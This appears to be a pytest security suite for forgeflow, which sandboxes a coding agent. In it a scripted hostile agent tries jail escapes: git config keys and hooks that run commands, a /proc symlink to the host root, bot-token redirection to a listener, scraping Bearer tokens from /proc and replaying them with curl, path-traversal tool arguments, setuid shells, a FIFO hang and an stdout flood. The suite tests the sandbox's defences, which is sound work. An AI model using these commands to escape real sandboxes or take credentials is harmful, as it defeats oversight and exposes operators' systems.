"""The agent attacks forgeflow's side of the boundary, from inside real turns.

Every attack is a shell command the agent runs in the real `codex app-server` in
forgeflow's jail (the scripted model asks for it); what each test asserts is on the
HOST: a canary folder the jail cannot see (its /tmp is private) stays empty, a host
file or folder stays as it was, a loopback listener sees no credential, Gitea, the
database and the logs hold no form of the bot token, forgeflow keeps working.

One test per class of attack; a later mention (after the app-server went idle, so the
next one builds its jail again from what is on disk) gives forgeflow the chance to act
on what the agent planted. A task may end blocked: that is a fine outcome, the
assertion is what happened on the host."""

from __future__ import annotations

import json
import os
import resource
import stat
import subprocess
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from forgeflow_testkit.gitea_emulator import GiteaEmulator
from forgeflow_testkit.model_server import ScriptedModel
from forgeflow_testkit.model_steps import ShellCall, ToolCall
from tests.support.agentic import Agentic, start_agentic
from tests.support.attacks import (
    Attempt,
    Canary,
    add_other_repo,
    attempt_turn,
    leaks,
    listener,
    snapshot,
    wait_idle,
)
from tests.support.turns import script_turn, section, shell_turn

HOOKS = (
    "post-checkout",
    "reference-transaction",
    "pre-push",
    "post-merge",
    "post-index-change",
    "post-rewrite",
    "pre-auto-gc",
    "push-to-checkout",
    "fsmonitor-watchman",
)


@pytest.fixture
def jailed(
    gitea: GiteaEmulator,
    model: ScriptedModel,
    tmp_path: Path,
    sqlite_url: str,
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[Agentic]:
    """The agent harness with a short idle time, so a later mention restarts the jail."""
    yield from start_agentic(gitea, model, tmp_path, sqlite_url, monkeypatch, agent_idle_seconds=2)


@pytest.fixture
def canary(tmp_path: Path) -> Canary:
    return Canary(tmp_path / "canary")


def paths(agentic: Agentic) -> tuple[Path, Path, Path]:
    """The clone, the session worktree of the issue and the repository's home (host)."""
    root = agentic.ff.settings.resolved_workspace_root
    return (
        root / "default/acme/widget",
        root / ".sessions/default/acme/widget" / f"issue-{agentic.issue}",
        root / ".homes/default/acme/widget",
    )


def up(path: Path, target: Path) -> str:
    """A relative symlink target from the folder ``path`` to ``target``: resolved in the
    jail and on the host alike (the clone sits at its host path in both)."""
    return "../" * (len(path.parts) - 1) + str(target).lstrip("/")


def hostile(cfg: str, canary: Canary, extra: str = "") -> str:
    """Shell lines that make the git config file ``cfg`` run a command on whoever runs
    git with it: every key that runs a program, the includes and the hooks."""
    keys = {
        "core.fsmonitor": canary.touch("fsmonitor"),
        "core.hooksPath": "$(dirname " + cfg + ")/hooks",
        "core.sshCommand": canary.touch("sshCommand"),
        "core.pager": canary.touch("pager") + "; cat",
        "core.editor": canary.touch("editor"),
        "core.askPass": canary.touch("askPass"),
        "core.alternateRefsCommand": canary.touch("alternateRefsCommand"),
        "sequence.editor": canary.touch("sequence.editor"),
        "filter.x.clean": canary.touch("filter.clean") + "; cat",
        "filter.x.smudge": canary.touch("filter.smudge") + "; cat",
        "filter.x.process": canary.touch("filter.process"),
        "diff.external": canary.touch("diff.external"),
        "diff.x.textconv": canary.touch("diff.textconv") + "; cat",
        "diff.x.command": canary.touch("diff.command"),
        "merge.x.driver": canary.touch("merge.driver"),
        "credential.helper": "!" + canary.touch("credential.helper"),
        "gpg.program": canary.touch("gpg.program"),
        "gpg.ssh.program": canary.touch("gpg.ssh.program"),
        "log.showSignature": "true",
        "uploadpack.packObjectsHook": canary.touch("packObjectsHook"),
        "remote.origin.uploadpack": canary.touch("remote.uploadpack"),
        "remote.origin.receivepack": canary.touch("remote.receivepack"),
        "include.path": "$(dirname " + cfg + ")/include.cfg",
        "includeIf.gitdir:/**.path": "$(dirname " + cfg + ")/includeif.cfg",
        "includeIf.onbranch:**.path": "$(dirname " + cfg + ")/includeif.cfg",
    }
    lines = [f"git config -f {cfg} '{k}' \"{v}\"" for k, v in keys.items()]
    inc, incif = f"$(dirname {cfg})/include.cfg", f"$(dirname {cfg})/includeif.cfg"
    lines += [
        f"git config -f {inc} filter.inc.clean '{canary.touch('include.clean')}; cat'",
        f"git config -f {inc} core.fsmonitor '{canary.touch('include.fsmonitor')}'",
        f"git config -f {incif} filter.iff.clean '{canary.touch('includeIf.clean')}; cat'",
        f"git config -f {incif} core.fsmonitor '{canary.touch('includeIf.fsmonitor')}'",
        f"mkdir -p $(dirname {cfg})/hooks",
    ]
    for hook in HOOKS:
        script = f"$(dirname {cfg})/hooks/{hook}"
        lines.append(f"printf '#!/bin/sh\\n{canary.touch('hook.' + hook)}\\n' > {script}")
        lines.append(f"chmod +x {script}")
    return "\n".join([*lines, extra])


# Files whose attributes name the planted drivers, committed in the session worktree
# (so forgeflow publishes) and then touched, so that a later `git status` must re-read
# them through the clean filters.
COMMIT = (
    "printf '* filter=x diff=x merge=x\\n*.inc filter=inc\\n*.if filter=iff\\n'"
    " > .gitattributes\n"
    "echo a > a.txt; echo b > b.inc; echo c > c.if\n"
    "git add -A && git commit -q -m 'Add files' && echo committed\n"
)
RETOUCH = "sleep 1.1; touch .gitattributes a.txt b.inc c.if\n"


def publish_then_mention_again(agentic: Agentic, command: str) -> Attempt:
    """The agent commits and plants in one turn (forgeflow publishes after it); after an
    idle stop, a second mention makes forgeflow prepare the clone and session again."""
    first = attempt_turn(agentic, command, "@ccweb-bot please fix it")
    assert "committed" in first.output, first.output  # the attack ran
    wait_idle(agentic)
    attempt_turn(agentic, "git status --short; git log -1 --format=%s", "@ccweb-bot again")
    return first


def test_git_config_through_commondir_runs_nothing_on_the_host(
    jailed: Agentic, canary: Canary
) -> None:
    """The clone's ``.git/config`` is read-only in the jail, but ``.git/commondir`` of
    the clone and of the worktree's folder are not: they point git at a common folder
    of the agent's, with a hostile config, hooks, a worktree config
    (``extensions.worktreeConfig``) and includes."""
    clone, _worktree, _home = paths(jailed)
    admin = clone / ".git/worktrees" / f"issue-{jailed.issue}"
    evil = clone / ".evil"
    command = (
        COMMIT
        + f"cp -a {clone}/.git/. {evil}\n"
        + hostile(
            f"{evil}/config", canary, f"git config -f {evil}/config extensions.worktreeConfig true"
        )
        + f"\ncp {evil}/config {admin}/config.worktree\n"
        f"echo {evil} > {clone}/.git/commondir; echo {evil} > {admin}/commondir\n"
        f"cp .gitattributes {clone}/.gitattributes\n" + RETOUCH
    )
    publish_then_mention_again(jailed, command)
    assert canary.fired() == [], f"forgeflow ran the agent's commands on the host: {canary.fired()}"


@pytest.mark.parametrize("how", ["copied", "symlinked"])
def test_a_replaced_git_folder_runs_nothing_on_the_host(
    jailed: Agentic, canary: Canary, how: str
) -> None:
    """The clone's ``.git`` renamed (its read-only binds move with it) and replaced by a
    copy, or by a symlink to a copy, with the same origin URL and a hostile config,
    hooks and alternates; the worktree's ``.git`` file follows it."""
    clone, _worktree, _home = paths(jailed)
    replace = (
        f"mv {clone}/.git {clone}/.git-moved && cp -a {clone}/.git-moved {clone}/.git"
        if how == "copied"
        else f"cp -a {clone}/.git {clone}/.git-evil && mv {clone}/.git {clone}/.git-moved"
        f" && ln -s .git-evil {clone}/.git"
    )
    command = (
        COMMIT
        + replace
        + f"\necho replaced-$?\nchmod -R u+w {clone}/.git/\n"
        + hostile(f"{clone}/.git/config", canary)
        + f"\necho {clone}/.git-moved/objects > {clone}/.git/objects/info/alternates\n"
        f"cp .gitattributes {clone}/.gitattributes\n" + RETOUCH
    )
    publish_then_mention_again(jailed, command)
    assert canary.fired() == [], f"forgeflow ran the agent's commands on the host: {canary.fired()}"


def test_the_bot_token_goes_only_to_gitea(jailed: Agentic, canary: Canary) -> None:
    """Through a replaced ``.git`` (the way that reaches forgeflow's git today) and the
    worktree's own config: URL rewrites, a proxy, a changed remote. A listener on
    loopback asks every request for Basic credentials; forgeflow publishes the agent's
    commit and fetches again at the next mention. The listener gets no credential, and
    no comment, database row or log line holds the token in any form."""
    clone, _worktree, _home = paths(jailed)
    gitea = jailed.gitea.url.rstrip("/")
    with listener() as heard:
        rewrites = {
            f"url.{heard.url}/.insteadOf": f"{gitea}/",
            f"url.{heard.url}/x/.pushInsteadOf": f"{gitea}/",
            "http.proxy": heard.url,
            f"http.{gitea}/.proxy": heard.url,
            "remote.origin.url": f"{heard.url}/acme/widget.git",
            "remote.origin.pushurl": f"{heard.url}/acme/widget.git",
            "http.extraHeader": "X-Planted: yes",
            "http.emptyAuth": "true",
        }
        plant = "\n".join(
            f"git config -f {clone}/.git/config '{k}' '{v}'" for k, v in rewrites.items()
        )
        # The clone's config as it is when it is writable (it is the jail's own after
        # the redesign), else through a copied .git (read-only config before it).
        command = (
            COMMIT + f"git config -f {clone}/.git/config x.probe 1 2>/dev/null"
            " && echo planted-in-place ||"
            f" {{ mv {clone}/.git {clone}/.git-moved && cp -a {clone}/.git-moved {clone}/.git"
            f" && chmod -R u+w {clone}/.git/; }}\n{plant}\n"
        )
        first = publish_then_mention_again(jailed, command)
        assert heard.authorizations() == [], f"the listener got credentials: {heard.seen}"
        assert heard.seen == [], f"forgeflow's git was sent to the listener: {heard.seen}"
    # forgeflow did publish the agent's commit, to Gitea itself (when the config was the
    # clone's own; a replaced .git blocks the session instead).
    if "planted-in-place" in first.output:
        assert jailed.gitea.branch_sha("acme", "widget", f"ccweb/issue-{jailed.issue}")
    assert leaks(jailed) == []


def test_bind_sources_renamed_to_host_folders_show_nothing_of_the_host(
    jailed: Agentic, canary: Canary
) -> None:
    """The issue's root escalation: ``.git/objects`` renamed (the read-only bind of
    ``objects/info`` moves with it) and ``objects/info`` recreated as a relative
    symlink to ``/proc``; in a copied ``.git`` the other protected folders (``hooks``,
    ``info``) point at forgeflow's data folder and workspace root. The next app-server
    builds its jail from these paths; through ``/proc/<pid>/root`` the agent would own
    the host: it writes a canary and rewrites forgeflow's askpass script there."""
    clone, _worktree, _home = paths(jailed)
    git = clone / ".git"
    data_dir = Path(jailed.ff.settings.data_dir).resolve()
    root = jailed.ff.settings.resolved_workspace_root
    askpass = root / ".forgeflow-askpass"
    before = askpass.read_bytes() if askpass.exists() else None
    plant = (
        f"mv {git}/objects {git}/objects-moved && mkdir {git}/objects &&"
        f" for d in {git}/objects-moved/*; do"
        f' [ "${{d##*/}}" = info ] || mv "$d" {git}/objects/; done'
        f" && ln -s {up(git / 'objects', Path('/proc'))} {git}/objects/info && echo planted-proc\n"
        f"ls -la {git}/objects/\n"
    )
    attempt_turn(jailed, plant, "@ccweb-bot please fix it")
    wait_idle(jailed)
    pytest_pid = os.getpid()
    exploit = (
        f"echo '== proc'; ls {git}/objects/info/ /proc | grep -c .; ls -d /proc/{pytest_pid}\n"
        f"for p in /proc/[0-9]* {git}/objects/info/[0-9]*; do"
        f" {{ echo pwned > $p/root{canary.folder}/via-proc-root; }} 2>/dev/null;"
        f" {{ printf '#!/bin/sh\\necho stolen\\n' > $p/root{askpass}; }} 2>/dev/null; done;"
        f" echo tried; cat /proc/{pytest_pid}/environ | tr '\\0' '\\n' | grep -c . \n"
    )
    second = attempt_turn(jailed, exploit, "@ccweb-bot again")
    assert canary.fired() == [], f"the jail wrote on the host through /proc: {second.output}"
    after = askpass.read_bytes() if askpass.exists() else None
    assert after == before, "forgeflow's askpass script was rewritten from the jail"
    assert f"/proc/{pytest_pid}\n" not in second.output, second.output
    # Through a replaced .git, the other protected bind sources.
    plant = (
        f"mv {git} {clone}/.git-moved && cp -a {clone}/.git-moved {git} && chmod -R u+w {git}\n"
        f"rm -rf {git}/hooks {git}/info && ln -s {up(git, data_dir)} {git}/hooks"
        f" && ln -s {up(git, root)} {git}/info && echo planted-folders\n"
    )
    attempt_turn(jailed, plant, "@ccweb-bot once more")
    wait_idle(jailed)
    third = attempt_turn(
        jailed,
        f"echo '== hooks'; ls -A {git}/hooks/; echo '== info'; ls -A {git}/info/\n"
        f"echo stolen > {git}/info/.forgeflow-askpass; echo pwned > {git}/hooks/canary",
        "@ccweb-bot and again",
    )
    assert not (data_dir / "canary").exists()
    assert (askpass.read_bytes() if askpass.exists() else None) == before
    for name in ("forgeflow.db", "logs", ".forgeflow-askpass"):
        assert name not in third.output, f"the jail sees forgeflow's {name}: {third.output}"


def test_the_homes_files_are_not_written_through(jailed: Agentic, tmp_path: Path) -> None:
    """forgeflow writes the jail home's ``.gitconfig`` and ``.codex/config.toml`` on the
    host at every app-server start. The agent makes them (and ``.codex`` itself)
    symlinks to host files and a host folder (the jail shows only jail paths, but a
    symlink's target is any string); after the next start they are as they were."""
    victims = tmp_path / "victims"
    (victims / "codex").mkdir(parents=True)
    (victims / "gitconfig").write_text("[user]\n\tname = operator\n")
    (victims / "config.toml").write_text("# the operator's\n")
    (victims / "codex/config.toml").write_text("# another codex home\n")
    before = snapshot(victims)
    attempt_turn(
        jailed,
        f"ln -sf {victims}/gitconfig ~/.gitconfig;"
        f" rm -f ~/.codex/config.toml; ln -s {victims}/config.toml ~/.codex/config.toml;"
        " ls -l ~/.gitconfig ~/.codex/config.toml",
        "@ccweb-bot please fix it",
    )
    wait_idle(jailed)
    attempt_turn(
        jailed,
        f"mv ~/.codex ~/.codex-moved && ln -s {victims}/codex ~/.codex && ls -l ~/",
        "@ccweb-bot again",
    )
    wait_idle(jailed)
    attempt_turn(jailed, "ls -l ~/ ~/.codex/", "@ccweb-bot once more")
    assert snapshot(victims) == before, "forgeflow wrote through the agent's symlinks"


def test_session_folders_replaced_by_symlinks_touch_no_host_folder(
    jailed: Agentic, tmp_path: Path
) -> None:
    """The session worktree replaced by a symlink to a host folder (a git repository of
    the operator's), the clone's ``.git/worktrees`` by a symlink to another host folder:
    the next mention's preparation (status, worktree add, checks) leaves both alone."""
    clone, worktree, _home = paths(jailed)
    victim = tmp_path / "operator-repo"
    other = tmp_path / "operator-folder"
    victim.mkdir()
    other.mkdir()
    (victim / "README").write_text("mine\n")
    (other / "keep").write_text("keep\n")
    git = ["git", "-C", str(victim), "-c", "user.name=o", "-c", "user.email=o@example.invalid"]
    os.system(" ".join([*git[:3], "init", "-q"]))  # noqa: S605 - a fixed command
    os.system(" ".join([*git, "add", "-A"]) + " && " + " ".join([*git, "commit", "-qm", "x"]))  # noqa: S605
    before = snapshot(victim), snapshot(other)
    attempt_turn(
        jailed,
        f"cd / && mv {worktree} {worktree}-moved && ln -s {up(worktree.parent, victim)} {worktree}"
        f" && mv {clone}/.git/worktrees {clone}/.git/worktrees-moved"
        f" && ln -s {up(clone / '.git', other)} {clone}/.git/worktrees && echo planted",
        "@ccweb-bot please fix it",
    )
    wait_idle(jailed)
    attempt_turn(jailed, "pwd; ls -A", "@ccweb-bot again")
    assert (snapshot(victim), snapshot(other)) == before, "forgeflow changed a host folder"


def test_a_fifo_where_forgeflow_writes_does_not_stop_forgeflow(jailed: Agentic) -> None:
    """A named pipe at the home's ``.gitconfig`` (which forgeflow writes at every start)
    and at the worktree's ``.git`` file: forgeflow must not hang on them; another
    repository's and a later task's work goes on, and forgeflow still answers."""
    _clone, _worktree, home = paths(jailed)
    attempt_turn(
        jailed,
        "rm -f ~/.gitconfig && mkfifo ~/.gitconfig && echo fifo-planted",
        "@ccweb-bot please fix it",
    )
    wait_idle(jailed)
    fifo = home / ".gitconfig"
    try:
        second = attempt_turn(jailed, "echo alive", "@ccweb-bot again")
        assert second.detail["terminal"]
        assert httpx.get(jailed.ff.url + "/healthz", timeout=10).status_code == 200
    finally:
        # Unblock a writer stuck on the pipe, so the fixture can stop forgeflow.
        if fifo.exists() and stat.S_ISFIFO(fifo.lstat().st_mode):
            fd = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
            os.close(fd)


def test_setuid_files_the_agent_makes_give_no_local_user_their_owner(jailed: Agentic) -> None:
    """The jail's files are forgeflow's user's on the host (root here): a setuid copy of a
    shell that the agent leaves in its home or worktree must not be a way up for another
    local user. forgeflow's own folders above every agent tree are its alone (even when
    the operator made the workspace root open to all), so no local user reaches, let alone
    runs, what the agent left there; an unprivileged user tries."""
    _clone, worktree, home = paths(jailed)
    root = jailed.ff.settings.resolved_workspace_root
    for tree in (home, worktree):
        tree.parent.mkdir(parents=True, exist_ok=True)
        for level in [tree.parent, *tree.parent.parents]:
            if root in (level, *level.parents):
                level.chmod(0o755)  # as an older set-up or an open umask left them
    shell_turn(
        jailed,
        "cp /bin/sh ~/suid-sh && chmod 4755 ~/suid-sh;"
        " cp /bin/sh ./suid-sh && chmod 6755 ./suid-sh;"
        " ls -l ~/suid-sh ./suid-sh",
    )
    for path, tree in ((home / "suid-sh", home), (worktree / "suid-sh", worktree)):
        assert path.lstat().st_mode & stat.S_ISUID, f"the plant did not happen: {path}"
        # Between the root and the agent's tree, some folder of forgeflow's is closed to
        # everyone else (the jail sees none of them, so it cannot open them again).
        levels = [tree.parent, *[p for p in tree.parent.parents if root in (p, *p.parents)]]
        assert any(p.stat().st_mode & 0o077 == 0 for p in levels), [
            oct(p.stat().st_mode) for p in levels
        ]
        try:
            ran = subprocess.run(
                [str(path), "-p", "-c", "id -u"],
                user=65534,
                group=65534,
                extra_groups=[],
                capture_output=True,
                text=True,
                timeout=30,
                check=False,
            )
        except PermissionError:
            continue  # the way in is closed: the point
        assert ran.stdout.strip() != "0", f"{path} made a local user root: {ran}"
        raise AssertionError(f"a local user ran {path}: {ran}")


def test_nothing_forgeflow_holds_open_reaches_the_jail(jailed: Agentic) -> None:
    """Every open file of every process in the jail: none is one of forgeflow's (its
    database, logs, data folder), nor a socket it did not mean to share."""
    data_dir = Path(jailed.ff.settings.data_dir).resolve()
    database = jailed.ff.settings.resolved_database_url.removeprefix("sqlite:///")
    out = shell_turn(
        jailed,
        "echo '== fds'; for f in /proc/[0-9]*/fd/*; do readlink $f; done | sort -u",
    ).output
    fds = section(out, "fds").split()
    for target in fds:
        assert database not in target and str(data_dir / "logs") not in target, fds


def test_a_flood_on_the_app_servers_stdout_does_not_stop_forgeflow(jailed: Agentic) -> None:
    """The agent's shell runs as the app-server's user in its PID namespace, so it can
    open the app-server's stdout (/proc/<pid>/fd/1), the JSON-RPC stream forgeflow
    parses: a forged message and a line far beyond any bound. forgeflow stays up and
    the next task works."""
    flood = (
        "for p in /proc/[0-9]*; do"
        " grep -q app-server $p/cmdline 2>/dev/null && A=${p#/proc/}; done;"
        " echo app-server=$A;"
        ' printf \'{"jsonrpc":"2.0","method":"turn/completed","params":{}}\\n\' > /proc/$A/fd/1;'
        " head -c 80000000 /dev/zero | tr '\\0' x > /proc/$A/fd/1; echo flooded"
    )
    attempt_turn(jailed, flood, "@ccweb-bot please fix it")
    assert httpx.get(jailed.ff.url + "/healthz", timeout=10).status_code == 200
    wait_idle(jailed)
    again = shell_turn(jailed, "echo still-here", "@ccweb-bot again")
    assert again.output.strip() == "still-here"


# How the jail finds the broker and its model capability, before and after the boundary
# redesign (the Codex config file, or Codex's -c overrides and its environment).
FIND_BROKER = (
    "B=$(grep -aoh 'http://127.0.0.1:[0-9]*/model' ~/.codex/config.toml /proc/[0-9]*/cmdline"
    " 2>/dev/null | head -1); B=${B%/model}\n"
    "K=${AGENT_CAPABILITY:-$(sed -n 's|^experimental_bearer_token = \"\\(.*\\)\"$|\\1|p'"
    " ~/.codex/config.toml 2>/dev/null)}\n"
    # A session's Gitea capability, wherever the jail may see it.
    "S=$(grep -raoh 'Bearer [A-Za-z0-9_-]\\{20,\\}' ~/.codex /proc/[0-9]*/environ"
    " /proc/[0-9]*/cmdline 2>/dev/null | sort -u | sed 's/^Bearer //' | tr '\\n' ' ')\n"
    'echo "== found"; echo "$B"; echo "$K"; echo "$S"\n'
)


def reuse(broker: str, capabilities: list[str], owner: str, repo: str, issue: int) -> str:
    """Each capability against the model pass-through, and as a Gitea tools session
    (posting a comment on ``owner/repo#issue``, under every comment tool's name)."""
    code = "curl -s -o /dev/null -w '%{http_code}\\n'"
    lines = ["echo '== reuse'"]
    for cap in capabilities:
        auth = f"-H 'Authorization: Bearer {cap}' -H 'Content-Type: application/json'"
        lines.append(f"{code} -X POST {auth} -d '{{}}' {broker}/model/responses")
        for tool in ("add_comment", "issue_write", "create_issue_comment"):
            args = (
                f'{{"owner":"{owner}","repo":"{repo}","issue_number":{issue},"index":{issue},'
                f'"number":{issue},"method":"add_comment","body":"reused capability"}}'
            )
            params = f'{{"name":"{tool}","arguments":{args}}}'
            rpc = f'{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{params}}}'
            accept = "-H 'Accept: application/json, text/event-stream'"
            lines.append(f"curl -s {auth} {accept} -X POST -d '{rpc}' {broker}/mcp; echo")
    return "\n".join(lines)


def found(output: str) -> tuple[str, list[str]]:
    broker, model_cap, sessions = [*section(output, "found").splitlines(), "", "", ""][:3]
    caps = [c for c in [model_cap, *sessions.split()] if c]
    assert broker.startswith("http://127.0.0.1:") and caps, output
    return broker, caps


def test_a_repositorys_capabilities_do_not_work_for_another(agentic: Agentic) -> None:
    """What repo A's jail can read of its capabilities (model and Gitea tools), used in
    repo B's jail while A's app-server still runs: no model request is relayed for it,
    no comment lands on A's issue."""
    first = shell_turn(agentic, FIND_BROKER)
    broker, caps = found(first.output)
    other_issue = add_other_repo(agentic, "other-secret-cap")
    comments = len(agentic.gitea.comments("acme", "widget", agentic.issue))
    before = len(agentic.model.requests)
    attempt = attempt_turn(
        agentic,
        reuse(broker, caps, "acme", "widget", agentic.issue),
        "@ccweb-bot look at this",
        on=("acme", "other", other_issue),
    )
    assert len(agentic.gitea.comments("acme", "widget", agentic.issue)) == comments, attempt.output
    # The turn on acme/other made its own few model requests; a relayed reuse adds more.
    relayed = [r for r in agentic.model.requests[before:] if not r.body.get("input")]
    codes = section(attempt.output, "reuse").split()
    assert "200" not in codes and not relayed, attempt.output


def test_capabilities_end_with_their_app_server(jailed: Agentic) -> None:
    """The capabilities of one app-server, kept in the home across an idle stop, are
    refused once the next app-server runs."""
    first = shell_turn(jailed, FIND_BROKER)
    broker, caps = found(first.output)
    wait_idle(jailed)
    comments = len(jailed.gitea.comments("acme", "widget", jailed.issue))
    second = attempt_turn(jailed, reuse(broker, caps, "acme", "widget", jailed.issue))
    after = [c["body"] for c in jailed.gitea.comments("acme", "widget", jailed.issue)]
    assert "reused capability" not in after[comments:], second.output
    assert "200" not in section(second.output, "reuse").split(), second.output


def test_tool_arguments_cannot_reach_another_repository(agentic: Agentic) -> None:
    """The model (hostile like the agent) calls the Gitea tools on its own repository
    with arguments that would leave it: ``..`` segments, encoded slashes, backslashes,
    an absolute URL. Gitea is never asked for acme/other, and its secret reaches
    neither the model nor a comment."""
    secret = "other-secret-tools"
    add_other_repo(agentic, secret)
    sneaky = [
        "../../other/contents/SECRET.md",
        "..%2F..%2Fother%2Fcontents%2FSECRET.md",
        "..\\..\\other\\contents\\SECRET.md",
        "%2e%2e/%2e%2e/other/contents/SECRET.md",
        f"{agentic.gitea.url}/api/v1/repos/acme/other/contents/SECRET.md",
        "/api/v1/repos/acme/other/contents/SECRET.md",
    ]
    names = ("read_file", "get_file_contents", "get_file")
    calls: list[ToolCall | ShellCall] = [
        ToolCall(names, {"owner": "acme", "repo": "widget", "path": p}) for p in sneaky
    ]
    calls += [
        ToolCall(names, {"owner": "acme", "repo": "widget", "path": "README.md", "ref": r})
        for r in ("../../../other/contents/SECRET.md", "main/../../../other")
    ]
    calls.append(ShellCall("true"))
    script_turn(agentic.model, calls)
    detail = agentic.finished(agentic.mention("@ccweb-bot read around"))
    asked = [p for _m, p, _s in agentic.gitea.requests if "/other" in p.lower()]
    assert asked == [], f"Gitea was asked for another repository: {asked}"
    seen = json.dumps([r.body for r in agentic.model.requests])
    assert secret not in seen, "the other repository's secret reached the model"
    assert secret not in json.dumps(agentic.gitea.comments("acme", "widget", agentic.issue))
    assert detail["terminal"]


def test_the_jail_cannot_take_the_hosts_memory_or_process_table(jailed: Agentic) -> None:
    """A fork bomb or a memory hog in the jail would take forgeflow (and every other
    repository's work) down with it: the OOM killer picks the biggest process, a full
    process table stops forgeflow starting git or bwrap. Not run here (it would hurt the
    machine): the jail must carry a bound on both, as an rlimit or a cgroup limit, which
    its own /proc and /sys show."""
    out = shell_turn(
        jailed,
        "echo '== limits'; grep -E '^Max (processes|address space|data size)' /proc/self/limits\n"
        "echo '== cgroup'; cat /sys/fs/cgroup/memory.max /sys/fs/cgroup/pids.max 2>&1",
    ).output
    limits = {
        line.rsplit(None, 3)[0]: line.split()[-3]
        for line in section(out, "limits").splitlines()
        if line.strip()
    }
    cgroup = section(out, "cgroup").split()
    # Lower than forgeflow's own limit: the machine's default is no bound for the jail.
    host_procs = resource.getrlimit(resource.RLIMIT_NPROC)[0]
    jail_procs = limits.get("Max processes", "unlimited")
    processes = (len(cgroup) > 1 and cgroup[1].isdigit()) or (
        jail_procs != "unlimited"
        and (host_procs == resource.RLIM_INFINITY or int(jail_procs) < host_procs)
    )
    memory = (
        limits.get("Max address space") != "unlimited"
        or limits.get("Max data size") != "unlimited"
        or (bool(cgroup) and cgroup[0].isdigit())
    )
    assert processes and memory, f"the jail has no bound on processes and memory:\n{out}"
